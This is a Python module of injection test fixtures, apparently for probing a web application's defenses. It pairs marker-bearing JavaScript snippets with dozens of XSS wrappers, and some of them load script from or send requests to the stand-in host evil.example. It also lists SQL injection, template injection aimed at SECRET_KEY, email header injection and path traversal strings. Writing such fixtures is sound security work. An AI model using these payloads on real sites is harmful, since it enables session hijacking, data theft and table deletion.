"""What somebody could send to be run on a colleague's screen. Ours, by class of context.

Each leaves the mark on the title, in `window`, in the tree or as a request when it is run.
"""

from __future__ import annotations

MARK = "zq7mark"
RUN = (
    f"document.title='{MARK}'",
    f"window.{MARK}=1",
    f"alert('{MARK}')",
    f"top['{MARK}']=1",
    f"fetch('//evil.example/{MARK}')",
    f"setTimeout(function(){{document.title='{MARK}'}})",
    f"import('//evil.example/{MARK}.js')",
)
AROUND = (
    "<script>{}</script>",
    "<ScRiPt/x>{}</sCrIpT >",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '<img data-zq7mark src=x onerror="{}">',
    "<img data-zq7mark/src=x/onerror={}//",
    '<svg data-zq7mark onload="{}">',
    '<body data-zq7mark onload="{}">',
    '<details data-zq7mark open ontoggle="{}">',
    '<input data-zq7mark autofocus onfocus="{}">',
    '" data-zq7mark autofocus tabindex=1 onfocus="{}" x="',
    "' data-zq7mark onmouseover='{}' style='position:fixed;inset:0",
    '<a data-zq7mark href="javascript:{}">open</a>',
    "javascript:{}//https://acme.example/",
    '<iframe data-zq7mark srcdoc="<script>parent.{}</script>"></iframe>',
    "<math><mi data-zq7mark xlink:href=\"data:text/html,<script>{}</script>\">",
    '<div data-zq7mark hx-get="/settings/members/" hx-trigger="load" hx-on::load="{}">',
    '<form data-zq7mark action="//evil.example/{}"><button>Go on</button></form>',
    '<meta data-zq7mark http-equiv="refresh" content="0;url=javascript:{}">',
    '<base data-zq7mark href="//evil.example/{}/">',
    '<link data-zq7mark rel="stylesheet" href="//evil.example/{}">',
    "<style data-zq7mark>@import '//evil.example/{}';</style>",
    "{{{{constructor.constructor(\"{}\")()}}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)  # fmt: skip
ALL = tuple(around.format(run) for around in AROUND for run in RUN)

# What could become part of a statement, a header, a log line, a template or a path.
CANARY = "zq7canary"
SCRIPT = f"<script>document.title='{CANARY}'</script>"
HOSTILE = [
    f"{CANARY}'; DROP TABLE platform_user; --",
    f'{CANARY}") OR 1=1 /* {{{{ settings.SECRET_KEY }}}} ${{7*7}} %s %(id)s',
    f"{CANARY}\r\nBcc: eve@evil.example\r\n\r\n.\r\n\u2028",
    f"{CANARY}\0\ud7ff\u202e{SCRIPT}",
    "9" * 5_000,
    "-1e999",
    "../../../../etc/passwd",
]
